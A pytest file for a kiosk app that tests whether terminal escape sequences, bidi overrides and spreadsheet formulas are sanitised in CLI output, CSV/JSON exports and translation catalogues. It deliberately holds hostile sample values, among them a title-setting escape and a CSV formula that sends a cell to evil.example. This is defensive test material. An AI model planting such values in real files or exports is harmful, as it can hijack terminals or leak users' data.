"""No escape code reaches a terminal, a CSV or a PDF (issue 19, finding 3).

Before the fix: an escape sequence in a translation went raw to the kiosk's terminal,
item texts with escapes were echoed raw by `check` (which accepted control characters
anywhere), site names with escapes were printed raw by `stats` and the CSV export,
and a site named `=HYPERLINK(…)` was a formula in the CSV."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from skillcheck.bank import load_bank
from skillcheck.catalogues import compile_catalogue
from skillcheck.cli import cli
from skillcheck.datafile import ContentError
from skillcheck.plain_text import control_characters, plain, spreadsheet_cell
from skillcheck.store import Store

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from sample_records import make as record  # noqa: E402

TITLE = "\x1b]0;owned\x07"  # sets the terminal's title
QUERY = "\x1b[6n"  # asks the terminal where its cursor is (it answers as typed keys)
BIDI = "\u202e"  # shows what follows backwards
ESCAPES = [TITLE, QUERY, BIDI, "\u2066", "\x00", "\x85", "\x7f", "\t", "\r"]
RAW = ("\x1b", "\x07", "\u202e", "\x00")


def no_controls(text: str) -> bool:
    return not any(c in text for c in RAW)


@pytest.mark.parametrize("escape", ESCAPES, ids=repr)
def test_the_sanitiser_strips_every_control_but_newline(escape):
    assert control_characters(f"a{escape}b")
    assert plain(f"a{escape}b\nc") == "a" + plain(escape) + "b\nc"
    assert not control_characters(plain(f"a{escape}b"))
    assert not control_characters("Bibliotheek Gent\nétage 2 · “café” – 50 %")


@pytest.mark.parametrize("how", ["raw", "toml escape"])
def test_check_refuses_an_item_text_with_an_escape_by_file_and_line(questions_copy, how):
    items = questions_copy / "items" / "1-information.toml"
    text = items.read_text(encoding="utf-8")
    escape = TITLE if how == "raw" else "\\u001b]0;owned\\u0007"
    text = text.replace("Find the opening hours", f"Find{escape} the opening hours", 1)
    items.write_text(text, encoding="utf-8")
    line = next(n for n, x in enumerate(text.splitlines(), start=1) if "Find" in x and "owned" in x)
    result = CliRunner().invoke(cli, ["check", "--questions", str(questions_copy)])
    assert result.exit_code == 1
    # TOML itself refuses a raw control character; an escaped one is ours to refuse.
    said = "TOML syntax error" if how == "raw" else "control characters (U+001B, U+0007)"
    assert f"{items}:{line}: {said}" in result.output
    assert no_controls(result.output)
    with pytest.raises(ContentError):  # the kiosk does not load it either
        load_bank(questions_copy)


def test_check_refuses_a_config_and_a_catalogue_with_controls(questions_copy, tmp_path):
    config = tmp_path / "site.toml"
    config.write_text(f'site = "Gent{BIDI}tneG"\nterminal = "t1"\nregion = "flanders"\n')
    catalogue = questions_copy / "initiatives.toml"
    lines = catalogue.read_text(encoding="utf-8").splitlines()
    number = next(n for n, x in enumerate(lines, start=1) if x.startswith("name = "))
    lines[number - 1] = lines[number - 1].replace('name = "', 'name = "\\u001b[2J', 1)
    catalogue.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = CliRunner().invoke(
        cli, ["check", "--questions", str(questions_copy), "--config", str(config)]
    )
    assert result.exit_code == 1
    assert f"{config}:1: control characters (U+202E)" in result.output
    assert f"{catalogue}:{number}: control characters (U+001B)" in result.output
    assert no_controls(result.output)


def test_a_translation_with_escapes_is_refused_by_check_and_stripped_for_the_kiosk(
    locales_copy,
):
    po = locales_copy / "nl" / "LC_MESSAGES" / "skillcheck.po"
    text = po.read_text(encoding="utf-8")
    old = 'msgstr "Informatie vinden, beoordelen en bewaren"'
    text = text.replace(old, f'msgstr "Informatie{TITLE}{QUERY} vinden, beoordelen en bewaren"', 1)
    po.write_text(text, encoding="utf-8")
    line = (
        text.splitlines().index(f'msgstr "Informatie{TITLE}{QUERY} vinden, beoordelen en bewaren"')
        + 1
    )
    result = CliRunner().invoke(cli, ["check", "--locales", str(locales_copy)])
    assert result.exit_code == 1
    assert f"{po}:{line}: " in result.output and "U+001B" in result.output
    assert no_controls(result.output)
    compiled = compile_catalogue("nl", po)
    assert compiled is not None
    assert b"Informatie]0;owned[6n vinden" in compiled  # the text, without its ESC/BEL
    assert b"\x1b]0;owned" not in compiled and b"\x1b[6n" not in compiled


@pytest.fixture
def hostile_db(tmp_path):
    db = tmp_path / "kiosk.db"
    store = Store(db)
    for site, terminal in (
        (f"Gent{TITLE}", f"t1{QUERY}"),
        (f"{BIDI}Brugge", "t2"),
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+t3"),
        ("@SUM(1+1)", "-t4"),
    ):
        for _ in range(12):
            assert store.save(record(site=site, terminal=terminal, day="2026-03-14"))
    # Exports read released figures only (issue 21): March 2026 is closed, release it.
    published = CliRunner().invoke(cli, ["publish", "--db", str(db)])
    assert published.exit_code == 0, published.output
    return db


def test_stats_prints_no_control_character_from_the_database(hostile_db):
    result = CliRunner().invoke(cli, ["stats", "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    assert no_controls(result.output)
    assert "Gent]0;owned" in result.output and "Brugge" in result.output


@pytest.mark.parametrize("excel", [False, True])
def test_the_csv_export_has_no_control_character_and_no_formula(hostile_db, tmp_path, excel):
    out = tmp_path / "figures.csv"
    args = ["export", "--db", str(hostile_db), "--format", "csv", "--group", "site"]
    args += ["-o", str(out)] + (["--excel"] if excel else [])
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    import csv

    text = out.read_text(encoding="utf-8-sig")
    assert no_controls(text)
    cells = [
        c for row in csv.reader(text.splitlines(), delimiter=";" if excel else ",") for c in row
    ]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text  # terminals are not published


def test_the_json_export_has_no_control_character(hostile_db):
    args = ["export", "--db", str(hostile_db), "--format", "json", "--group", "site"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert no_controls(result.output) and "\\u001b" not in result.output


def test_a_formula_cell_gets_a_leading_quote():
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("Gent") == "Gent" and spreadsheet_cell("") == ""


def test_a_catalogue_cached_before_the_sanitiser_is_not_used(locales_copy, tmp_path, monkeypatch):
    """A kiosk updated in place keeps its compiled catalogues in the cache folder: one
    compiled by the version before (escapes and all) must be compiled again."""
    from skillcheck import i18n

    monkeypatch.setenv("SKILLCHECK_CACHE_DIR", str(tmp_path / "cache"))
    po = locales_copy / "nl" / "LC_MESSAGES" / "skillcheck.po"
    text = po.read_text(encoding="utf-8").replace(
        'msgstr "Informatie vinden, beoordelen en bewaren"', f'msgstr "Informatie{TITLE} vinden"', 1
    )
    po.write_text(text, encoding="utf-8")
    # What the version before compiled and cached: the escape kept.
    import io

    from babel.messages.catalog import Catalog
    from babel.messages.mofile import write_mo

    old = Catalog(locale=None, charset="utf-8")
    old.add(
        "Finding, judging and keeping information", f"Informatie{TITLE} vinden", context="area-1"
    )
    buffer = io.BytesIO()
    write_mo(buffer, old)
    monkeypatch.setattr(i18n, "_CACHE_FORMAT", 2)
    stale = i18n._cached_mo("nl", po.read_bytes())
    monkeypatch.undo()
    monkeypatch.setenv("SKILLCHECK_CACHE_DIR", str(tmp_path / "cache"))
    stale.parent.mkdir(parents=True, exist_ok=True)
    stale.write_bytes(buffer.getvalue())
    t = i18n.load_translator("nl", po)
    shown = t.pgettext("area-1", "Finding, judging and keeping information")
    assert shown == "Informatie]0;owned vinden"
